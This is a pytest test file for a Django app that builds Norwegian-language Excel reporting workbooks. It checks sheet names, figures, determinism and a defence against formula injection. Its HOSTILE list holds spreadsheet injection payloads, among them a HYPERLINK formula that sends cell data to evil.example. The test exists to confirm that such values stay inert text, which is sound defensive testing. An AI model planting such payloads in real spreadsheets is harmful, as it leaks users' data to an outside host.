"""The package workbook: its sheets and headings, the figures of report_figures, and no formula ever."""

import datetime

import pytest
from django.utils import timezone
from openpyxl.xml import LXML

from reporting.packages.workbook import package_workbook_bytes
from reporting.reports.snapshot import package_data_live

from .conftest import facts_for_office_a, report_figures, rows, summary_figures, workbook

pytestmark = pytest.mark.django_db

GENERATED = timezone.make_aware(datetime.datetime(2021, 4, 30, 12, 0))
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\x00=1"]


def build(period, office, **kwargs) -> bytes:
    data = package_data_live(period=period, office=office, generated_at=GENERATED, generated_by="Test", **kwargs)
    return package_workbook_bytes(data)


def test_the_office_package_has_the_sheets_and_norwegian_headings(spring, office_a, staff_a):
    facts_for_office_a(staff_a)
    wb = workbook(build(spring, office_a))
    assert wb.sheetnames == ["Sammendrag", "Kommuner", "Prioriteringer", "Tekster", "Tilskudd", "Gjennomføringsplan"]
    summary = {r[0]: r[1] for r in rows(wb["Sammendrag"])[1:9]}
    assert summary["Periode"] == "Våren 2021 (spring-2021)"
    assert summary["Embete"] == "Statsforvalteren i Oslo og Viken"
    assert summary["Referansedato"].date() == datetime.date(2021, 4, 30)
    assert summary["Laget"] == "2021-04-30 12:00"  # Europe/Oslo
    assert summary["Laget av"] == "Test"
    kommuner = rows(wb["Kommuner"])
    assert kommuner[0][:3] == ("Kommunenummer", "Kommune", "Embete")
    assert kommuner[0][-2:] == ("Vedtaksdato", "Saksnummer")
    assert len(kommuner) == 1 + 52  # one row per municipality of the office
    oslo = next(r for r in kommuner if r[0] == "0301")
    assert oslo[4] == "plan_adopted"
    assert oslo[-2].date() == datetime.date(2021, 2, 1)
    assert oslo[-1] == "21/100"
    # the decision one day after the reference date is not there
    assert next(r for r in kommuner if r[0] == "3004")[4] == "none"
    assert rows(wb["Prioriteringer"])[0] == ("Kode", "Navn", "Type", "Antall kommuner i fase 3")
    assert rows(wb["Tilskudd"])[0][:2] == ("Kommunenummer", "Kommune")
    assert len(rows(wb["Tilskudd"])) == 1 + 52


def test_the_figures_are_those_of_report_figures(spring, office_a, staff_a):
    facts_for_office_a(staff_a)
    wb = workbook(build(spring, office_a))
    expected = report_figures("--period", "spring-2021", "--office", office_a.slug)["offices"][office_a.slug]
    table = summary_figures(wb["Sammendrag"])
    assert list(table) == spring.figures
    for key in spring.figures:
        if key == "phase3_priorities":
            continue
        count, share = table[key]
        assert count == expected[key]["count"], key
        # openpyxl writes floats with 16 significant digits: equal to the last but one digit
        assert share == pytest.approx(expected[key]["share"], rel=1e-15), key
    assert table["decided_or_in_process"][0] == 4
    priorities = {r[0]: r[3] for r in rows(wb["Prioriteringer"])[1:]}
    assert priorities["phase_3"] == expected["phase_3"]["count"] == 2
    for code, count in expected["phase3_priorities"].items():
        assert priorities[code] == count
    assert priorities["aldersvennlig"] == 2


def test_autumn_2020_has_no_plan_sheet_and_no_grant_list(office_a):
    from reporting.models import ReportingPeriod

    wb = workbook(build(ReportingPeriod.objects.get(slug="autumn-2020"), office_a))
    assert "Gjennomføringsplan" not in wb.sheetnames
    assert "Ingen tilskuddsliste for 2020" in rows(wb["Tilskudd"])[1][1]
    assert rows(wb["Tekster"])[1][4] == "Perioden ber ikke om tekster."


def _cells_by_text(wb) -> dict:
    found = {}
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    found[c.value] = c
    return found


def test_formula_looking_text_stays_text(spring, office_a, staff_a, monkeypatch):
    from reporting.reports import snapshot as reports
    from tests.factories import record

    facts_for_office_a(staff_a, numbers=("0301",))
    record("3001", "decision", "plan_adopted", "2021-02-01", user=staff_a, detail="=1+1")
    for chunk in (HOSTILE[:5], HOSTILE[5:]):
        texts = dict(zip(spring.sections, chunk, strict=False))
        monkeypatch.setattr(reports, "report_texts_for_package", lambda office, period, texts=texts: texts)
        wb = workbook(build(spring, office_a))
        formulas = [(ws.title, c.coordinate) for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == []
        found = _cells_by_text(wb)
        # The NUL is dropped; a carriage return comes back as written when openpyxl writes through lxml (which
        # escapes it), as a line feed when it writes raw XML: still quoted text either way
        cr = "\r" if LXML else "\n"
        for text in [t.replace("\r", cr).replace("\x00", "") for t in chunk] + ["=1+1"]:
            assert text in found, repr(text)
            assert found[text].data_type == "s"
            assert found[text].quotePrefix is True


def test_the_same_data_gives_the_same_bytes(spring, office_a, staff_a):
    facts_for_office_a(staff_a)
    assert build(spring, office_a) == build(spring, office_a)


def test_known_at_freezes_what_was_recorded_by_then(spring, office_a, staff_a):
    facts_for_office_a(staff_a)
    known = timezone.now()
    before = build(spring, office_a, known_at=known)
    from tests.factories import record

    record("3005", "decision", "plan_adopted", "2021-02-01", user=staff_a)
    assert build(spring, office_a, known_at=known) == before
    assert build(spring, office_a) != before
